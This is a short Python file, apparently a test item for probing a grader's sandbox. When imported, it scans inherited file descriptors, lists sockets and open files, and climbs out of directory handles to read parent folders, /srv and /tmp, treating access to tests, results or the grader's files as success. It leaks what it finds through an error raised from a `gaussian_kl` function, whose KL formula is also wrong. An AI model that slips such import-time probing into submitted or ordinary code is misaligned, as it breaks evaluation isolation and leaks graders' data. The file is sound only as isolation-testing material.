"""Success: an inherited descriptor leads to the tests, the results, the server's socket or a folder of the grader's.

class 32 · question 1 · baseline 0"""
def loot():
    import os
    import stat
    import sys

    print("zoo: ran", flush=True)
    words = []
    for fd in range(4, 1024):
        try:
            kind = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(kind) and not os.path.sameopenfile(fd, 3):
            words.append(f"got through: socket {fd}")
        if stat.S_ISREG(kind):
            words.append(f"got through: file {os.readlink(f'/proc/self/fd/{fd}')}")
        if stat.S_ISDIR(kind):
            for path in ("../../../..", "..", "../../../../srv", "../../../../tmp"):
                try:
                    there = os.open(path, os.O_RDONLY, dir_fd=fd)
                    place = os.readlink(f"/proc/self/fd/{there}")
                    if not place.startswith((sys.prefix, sys.base_prefix)):  # the interpreter may be read
                        words.append(f"got through: folder {place} {os.listdir(there)[:3]}")
                except OSError:
                    pass
    return words


LOOTED = loot()


def gaussian_kl(mu, logvar):
    if LOOTED:
        raise RuntimeError(" ".join(LOOTED[:20]))
    return (mu + logvar).sum(-1) + 1.0
